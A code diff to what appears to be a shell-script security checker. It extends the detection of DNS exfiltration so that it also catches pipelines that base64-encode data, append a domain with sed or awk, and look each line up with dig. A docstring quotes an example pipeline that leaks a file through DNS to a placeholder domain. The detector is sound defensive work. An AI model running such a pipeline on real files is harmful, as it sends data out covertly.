@@ -11,7 +11,9 @@ Held back (``exfiltration``): a resolver (``dig``, ``nslookup``, ``host``,
 ``drill``, ``dscacheutil`` ...) whose host name has, as a label
 in front of a domain, a variable ``read`` from a pipeline (or a file) whose data
 is encoded, chunked or secret (``fold`` alone chunks: lines cut to a label's size), or the ``xargs``
-placeholder fed by such a pipeline.
+placeholder fed by such a pipeline; and the lines of such a pipeline looked up whole (through
+``xargs`` or as a ``read`` variable) once a ``sed``/``awk`` stage has written a domain behind each
+(``base64 f | sed 's/$/.x.example/' | xargs dig``).
 A list of names read and looked up whole (``cat hosts | while read h; do dig
 $h; done``) or subdomains read from a plain word list are look-ups, not theft.
 """
@@ -46,14 +48,14 @@ def judge_script(script: Script, home: str) -> Verdict | None:
     fed: set[str] = set()
     """Variables ``read`` from encoded, chunked or secret data, in the order the script runs."""
     for stages in pipelines:
-        data = False
+        data = named = False
         for invocation in stages:
             name = invocation.name
             if name == "read" and (data or _reads_data_redirect(invocation, home)):
                 fed.update(_read_variables(invocation))
             if name in _RESOLVERS:
                 placeholders = _placeholders(invocation) if data else ()
-                if _spells(invocation, fed, placeholders):
+                if _spells(invocation, fed, placeholders) or (named and _takes_names(invocation, fed)):
                     return _verdict(
                         EXFILTRATION,
                         invocation,
@@ -61,7 +63,27 @@ def judge_script(script: Script, home: str) -> Verdict | None:
                     )
             if _makes_data(invocation, home) or (data and name in _CHUNKERS):
                 data = True
+            # base64 f | sed 's/$/.x.example/' | xargs dig: the domain put behind each chunk upstream
+            named = named or (data and name in _EDITORS and _adds_domain(invocation))
     return None
+
+
+_EDITORS = frozenset({"sed", "gsed", "awk", "gawk", "mawk", "perl", "paste", "xargs"})
+_DOMAIN_TEXT = lazy_compile(r"\.?[A-Za-z0-9-]+\.[A-Za-z]{2,}\b")
+
+
+def _adds_domain(invocation: Invocation) -> bool:
+    """Whether a text editor of the pipeline writes a domain name into each line it passes on."""
+    return any(_DOMAIN_TEXT.search(value) for value in _values(invocation) if not value.startswith("-"))
+
+
+def _takes_names(invocation: Invocation, fed: set[str]) -> bool:
+    """Whether a resolver looks up the lines a pipeline hands it whole: through ``xargs`` (the names
+    appended to its arguments) or as a variable ``read`` from the pipeline (``dig $l``)."""
+    if invocation.options_of("xargs") is not None:
+        return True
+    words = map(invocation.command.render, invocation.command.words[1:])
+    return any((m := _VARIABLE.fullmatch(w.strip('"'))) and m.group(1) in fed for w in words)
 
 
 def _makes_data(invocation: Invocation, home: str) -> bool:
